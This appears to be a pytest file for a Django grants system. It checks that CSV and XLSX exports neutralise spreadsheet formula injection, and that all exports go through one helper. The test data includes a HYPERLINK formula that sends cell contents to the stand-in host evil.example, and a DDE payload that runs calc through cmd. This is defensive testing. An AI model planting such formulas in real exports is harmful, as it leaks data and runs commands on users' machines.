"""Every cell written to a CSV or XLSX export that a spreadsheet would read as a formula is
neutralised with a leading `'`; numbers stay numbers (issue 20, item 7). Through each export's
real interface: the statistics download, the payment batch downloads, the de minimis register
command; the files are parsed back."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from csgrants.core.exports import neutralise

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Drukkerij =Claes", "Drukkerij =Claes"),
        ("", ""),
        ("-1250.00", "-1250.00"),  # a number as text stays a number
        ("+32", "+32"),
        ("-1,5", "-1,5"),
        ("-1e5", "-1e5"),
    ],
)
def test_neutralise_text(typed, written):
    assert neutralise(typed) == written


@pytest.mark.parametrize("value", [Decimal("-12.50"), -3, 2.5, None])
def test_numbers_and_empty_cells_are_left_alone(value):
    assert neutralise(value) is value


# --- the statistics download (a reason label typed by an administrator) ----------------------


@pytest.fixture
def history(db):
    from pathlib import Path

    from csgrants.imports.services import history_import

    history_import(Path(__file__).resolve().parents[3] / "fixtures" / "history")


def test_a_formula_in_a_reason_label_is_text_in_the_statistics_xlsx(client, analyst, history):
    from csgrants.catalogue.models import ReasonCode
    from csgrants.core.reference import reference_changed

    ReasonCode.objects.update(label_nl=FORMULA, label_en=FORMULA)
    reference_changed()
    client.force_login(analyst)
    xlsx = client.get(reverse("reporting:dashboard"), {"year": "2021", "format": "xlsx"})
    assert xlsx.status_code == 200
    wb = load_workbook(io.BytesIO(xlsx.content))
    reasons = wb["8 Weigeringsredenen"]
    rows = list(reasons.iter_rows(min_row=2))
    assert rows, "the fixture has rejections with reasons"
    for row in rows:
        label, count = row[3], row[4]
        assert label.value == "'" + FORMULA and label.data_type == "s"
        assert isinstance(count.value, int) and count.data_type == "n"
    for sheet in wb.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    budget = wb["1 Budget"]
    assert all(isinstance(c.value, int | float) for c in budget[2])  # amounts stay numbers


# --- the de minimis register export (an enterprise name typed by a provider) -----------------


@pytest.mark.django_db
def test_a_formula_in_an_enterprise_name_is_text_in_the_register_exports(
    make_application, tmp_path
):
    application = make_application("approved", enterprise_name="@SUM(1+1)*cmd|' /C calc'!A0")
    out = tmp_path / "register.csv"
    call_command("deminimis_register", "export", "--output", str(out), stderr=io.StringIO())
    rows = list(csv.DictReader(io.StringIO(out.read_text())))
    assert rows[0]["beneficiary_name"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert rows[0]["amount_eur"] == f"{application.subsidy_eur:.2f}"
    xlsx = tmp_path / "register.xlsx"
    call_command(
        "deminimis_register",
        "export",
        "--format",
        "xlsx",
        "--output",
        str(xlsx),
        stderr=io.StringIO(),
    )
    sheet = load_workbook(xlsx).active
    header = [c.value for c in sheet[1]]
    row = sheet[2]
    name = row[header.index("beneficiary_name")]
    amount = row[header.index("amount_eur")]
    assert name.value == "'@SUM(1+1)*cmd|' /C calc'!A0" and name.data_type == "s"
    assert amount.data_type == "n" and Decimal(str(amount.value)) == application.subsidy_eur


def test_every_export_writes_through_the_one_helper():
    """A new export that writes CSV or XLSX by itself would skip `neutralise`."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    offenders = []
    for path in root.rglob("*.py"):
        if "tests" in path.parts or "migrations" in path.parts or path.name == "exports.py":
            continue
        text = path.read_text()
        if "csv.writer(" in text or "csv.DictWriter(" in text:
            offenders.append(f"{path.relative_to(root)}: csv writer")
        if "Workbook(" in text and "xlsx_bytes(" not in text:
            offenders.append(f"{path.relative_to(root)}: workbook saved without xlsx_bytes")
    assert offenders == []
